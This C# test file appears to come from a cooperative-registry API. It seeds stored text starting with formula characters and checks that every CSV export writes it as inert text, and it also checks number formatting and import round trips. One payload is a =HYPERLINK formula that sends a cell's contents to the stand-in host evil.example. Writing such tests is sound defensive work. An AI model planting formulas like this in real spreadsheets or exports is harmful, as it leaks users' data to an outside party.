using System.Data.Common;
using System.Net;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using CoopHub.Api.Tests.Cooperatives;
using CoopHub.Api.Tests.Infrastructure;
using CoopHub.Api.Tests.Programs;
using Dapper;

namespace CoopHub.Api.Tests.Shared;

/// <summary>
/// Every CSV the API writes (found in the live contract: a text/csv response, or a path ending in .csv or /export), with
/// stored text starting with each character a spreadsheet reads as a formula. A CSV operation without seeding here fails.
/// </summary>
public sealed class CsvInjectionTests(Engine engine) : ProgramTest(engine)
{
    private static readonly string[] Payloads =
        ["=HYPERLINK(\"https://evil.example/?c=\"&W2,\"Voir\")", "+1", "-1+1", "@SUM(A1)", "\tTabulation", "\rRetour"];

    private static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r'];

    private static string Local(DateTime utc) => utc.AddHours(1).ToString("yyyy-MM-dd'T'HH:mm:ss");

    /// <summary>Stored text written straight into the table, as an import or an older version could have left it.</summary>
    private async Task ExecuteAsync(string sql, object parameters)
    {
        await using DbConnection connection = Engine == Engine.SqlServer
            ? new Microsoft.Data.SqlClient.SqlConnection(ConnectionString)
            : new Microsoft.Data.Sqlite.SqliteConnection(ConnectionString);
        await connection.OpenAsync();
        await connection.ExecuteAsync(sql, parameters);
    }

    private Dictionary<string, Func<Task<string>>> Seeding() => new()
    {
        ["ExportCooperatives"] = async () => { await CooperativesAsync(); return "/api/v1/cooperatives/export"; },
        ["GetOpenCooperativesCsv"] = async () => { await CooperativesAsync(); return "/api/v1/open-data/cooperatives.csv"; },
        ["ExportProgramReport"] = async () =>
        {
            var program = await CreatedIdAsync("/api/v1/programs", ProgramBody("CSV-REPORT"));
            await ExecuteAsync("UPDATE prog_programs SET support_axes = @Axes, indicators = @Indicators WHERE id = @Id", new
            {
                Id = Guid.Parse(program),
                Axes = JsonSerializer.Serialize(Payloads.Select(p => new { code = p, nameFr = p })),
                Indicators = JsonSerializer.Serialize(Payloads.Select(p => new { code = p, nameFr = p, target = 5 })),
            });
            return $"/api/v1/programs/{program}/report.csv";
        },
        ["ExportCompetitionRanking"] = async () =>
        {
            var eventId = await CreatedIdAsync("/api/v1/events", new JsonObject
            {
                ["kind"] = "ideathon", ["titleFr"] = "Idéathon", ["regionCode"] = "MA-02", ["status"] = "published",
                ["startsAt"] = Local(DateTime.UtcNow.AddDays(5)), ["endsAt"] = Local(DateTime.UtcNow.AddDays(5).AddHours(6)),
            });
            var competition = await CreatedIdAsync("/api/v1/competitions", new JsonObject
            {
                ["titleFr"] = "Idéathon CSV", ["eventId"] = eventId, ["status"] = "open",
                ["opensAt"] = Local(DateTime.UtcNow.AddDays(-2)), ["closesAt"] = Local(DateTime.UtcNow.AddDays(3)),
                ["criteria"] = new JsonArray(new JsonObject { ["key"] = "social_impact", ["nameFr"] = "Impact social", ["weight"] = 100 }),
            });
            var awards = new JsonArray();
            for (var i = 0; i < Payloads.Length; i++)
            {
                var idea = await CreatedIdAsync("/api/v1/ideas", new JsonObject
                {
                    ["titleFr"] = $"Idée {i}", ["problem"] = "Problème", ["solution"] = "Solution", ["sectors"] = new JsonArray("handicraft"),
                });
                foreach (var to in new[] { "submitted", "published" })
                {
                    var moved = await SendJsonAsync(Client, HttpMethod.Post, $"/api/v1/ideas/{idea}/transitions", new JsonObject { ["to"] = to });
                    Assert.That(moved.StatusCode, Is.EqualTo(HttpStatusCode.OK), await moved.Content.ReadAsStringAsync());
                }
                var entry = await CreatedIdAsync($"/api/v1/competitions/{competition}/entries", new JsonObject { ["ideaId"] = idea });
                awards.Add(new JsonObject { ["entryId"] = entry, ["rank"] = i + 1, ["prizeLabel"] = "Prix", ["amount"] = 1000 });
                await ExecuteAsync("UPDATE bank_ideas SET title_fr = @Text, title_ar = @Text, cooperative_name_fr = @Text WHERE id = @Id",
                    new { Id = Guid.Parse(idea), Text = Payloads[i] });
            }
            var awarded = await SendJsonAsync(Client, HttpMethod.Put, $"/api/v1/competitions/{competition}/awards", new JsonObject { ["awards"] = awards });
            Assert.That(awarded.StatusCode, Is.EqualTo(HttpStatusCode.OK), await awarded.Content.ReadAsStringAsync());
            for (var i = 0; i < Payloads.Length; i++)
            {
                await ExecuteAsync("UPDATE bank_awards SET prize_label = @Text WHERE award_rank = @Rank", new { Text = Payloads[i], Rank = i + 1 });
            }
            return $"/api/v1/competitions/{competition}/ranking.csv";
        },
    };

    private bool _cooperativesSeeded;

    private async Task CooperativesAsync()
    {
        if (_cooperativesSeeded) return;
        _cooperativesSeeded = true;
        for (var i = 0; i < Payloads.Length; i++)
        {
            var (id, _) = await RegisterAsync(CooperativeBodies.Valid(registrationNumber: $"CSV-{i}"));
            await ExecuteAsync("UPDATE coop_cooperatives SET name_fr = @Text, name_ar = @Text, commune = @Text, address = @Text, activities = @Text WHERE id = @Id",
                new { Id = Guid.Parse(id), Text = Payloads[i] });
        }
    }

    [Test]
    public async Task Given_stored_text_starting_with_a_formula_character_Then_every_csv_of_the_contract_writes_it_as_text()
    {
        var document = JsonNode.Parse(await Client.GetStringAsync("/swagger/v1/swagger.json"))!;
        var csvOperations = document["paths"]!.AsObject()
            .SelectMany(p => p.Value!.AsObject().Select(m => (Path: p.Key, Operation: m.Value!)))
            .Where(o => o.Path.EndsWith(".csv", StringComparison.Ordinal) || o.Path.EndsWith("/export", StringComparison.Ordinal)
                || o.Operation["responses"]?.AsObject().Any(r => r.Value?["content"]?["text/csv"] is not null) == true)
            .Select(o => (string)o.Operation["operationId"]!)
            .ToList();
        var seeding = Seeding();
        Assert.That(csvOperations.Where(o => !seeding.ContainsKey(o)), Is.Empty, "CSV operations this test does not seed");
        Assert.That(csvOperations, Has.Count.GreaterThanOrEqualTo(4));

        foreach (var operation in csvOperations)
        {
            var url = await seeding[operation]();
            var response = await Client.GetAsync(url);
            var bytes = await response.Content.ReadAsByteArrayAsync();
            Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.OK), operation + ": " + Encoding.UTF8.GetString(bytes));
            Assert.That(bytes.Take(3), Is.EqualTo(new byte[] { 0xEF, 0xBB, 0xBF }), operation + ": UTF-8 with a BOM");
            var cells = Parse(Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3)).SelectMany(r => r).ToList();
            Assert.Multiple(() =>
            {
                Assert.That(cells.Where(c => c.Length > 0 && FormulaStarts.Contains(c[0])), Is.Empty, operation + ": cells a spreadsheet runs as formulas");
                foreach (var payload in Payloads)
                {
                    // The registry trims the names it reads (a leading tab goes); what remains must still be there.
                    Assert.That(cells, Does.Contain("'" + payload).Or.Contain(payload.Trim()), $"{operation}: the text {JsonSerializer.Serialize(payload)} is still there after the apostrophe");
                }
            });
        }
    }

    [Test]
    public async Task Given_a_negative_target_Then_the_report_csv_writes_it_as_a_number()
    {
        var program = await CreatedIdAsync("/api/v1/programs", ProgramBody("CSV-NUMBERS"));
        await ExecuteAsync("UPDATE prog_programs SET indicators = @Indicators WHERE id = @Id", new
        {
            Id = Guid.Parse(program),
            Indicators = JsonSerializer.Serialize(new[] { new { code = "balance", nameFr = "Solde", target = -12.5m } }),
        });
        var text = Encoding.UTF8.GetString(await Client.GetByteArrayAsync($"/api/v1/programs/{program}/report.csv"));
        Assert.That(Parse(text.TrimStart('\uFEFF')), Has.Some.EqualTo(new[] { "indicators", "balance", "", "", "-12.5", "0" }),
            "a number the product formats is not user text: it stays a number");
    }

    [Test]
    public async Task Given_an_import_with_a_name_starting_with_equals_Then_it_is_stored_as_given_and_an_export_round_trips()
    {
        var csv = "registrationNumber,nameFr,sectors,regionCode,provinceCode,membersTotal,contactPhone\r\n"
            + "CSV-IMPORT,\"=1+2\",handicraft,MA-02,MA-OUJ,9,+212 536 00 00 00\r\n";
        var imported = await Client.PostAsync("/api/v1/cooperatives/import", new StringContent(csv, Encoding.UTF8, "text/csv"));
        Assert.That(imported.StatusCode, Is.EqualTo(HttpStatusCode.OK), await imported.Content.ReadAsStringAsync());
        var stored = await ScalarAsync<string>("SELECT name_fr FROM coop_cooperatives WHERE registration_number = 'CSV-IMPORT'");
        var export = Encoding.UTF8.GetString(await Client.GetByteArrayAsync("/api/v1/cooperatives/export"));
        var row = Parse(export.TrimStart('\uFEFF')).Single(r => r[0] == "CSV-IMPORT");

        var header = export.TrimStart('\uFEFF').Split("\r\n")[0];
        var again = header + "\r\n" + export.Split("\r\n").Single(l => l.StartsWith("CSV-IMPORT,", StringComparison.Ordinal)).Replace("CSV-IMPORT", "CSV-AGAIN", StringComparison.Ordinal) + "\r\n";
        var reimported = await Client.PostAsync("/api/v1/cooperatives/import", new StringContent(again, Encoding.UTF8, "text/csv"));
        var report = await reimported.Content.ReadAsStringAsync();
        var name = await ScalarAsync<string>("SELECT name_fr FROM coop_cooperatives WHERE registration_number = 'CSV-AGAIN'");
        var phone = await ScalarAsync<string>("SELECT contact_phone FROM coop_cooperatives WHERE registration_number = 'CSV-AGAIN'");
        Assert.Multiple(() =>
        {
            Assert.That(stored, Is.EqualTo("=1+2"), "the import stores what it was given");
            Assert.That(row, Does.Contain("'=1+2").And.Contain("'+212 536 00 00 00"));
            Assert.That(reimported.StatusCode, Is.EqualTo(HttpStatusCode.OK), report);
            Assert.That((name, phone), Is.EqualTo(("=1+2", "+212 536 00 00 00")), "the export reads back as it was stored");
        });
    }

    /// <summary>RFC 4180 records: quoted fields may hold commas, doubled quotes and line breaks.</summary>
    private static List<string[]> Parse(string text)
    {
        var records = new List<string[]>();
        var record = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"') { field.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else field.Append(c);
            }
            else if (c == '"' && field.Length == 0) quoted = true;
            else if (c == ',') { record.Add(field.ToString()); field.Clear(); }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n') { record.Add(field.ToString()); field.Clear(); records.Add([.. record]); record.Clear(); i++; }
            else field.Append(c);
        }
        if (field.Length > 0 || record.Count > 0) { record.Add(field.ToString()); records.Add([.. record]); }
        return records;
    }
}
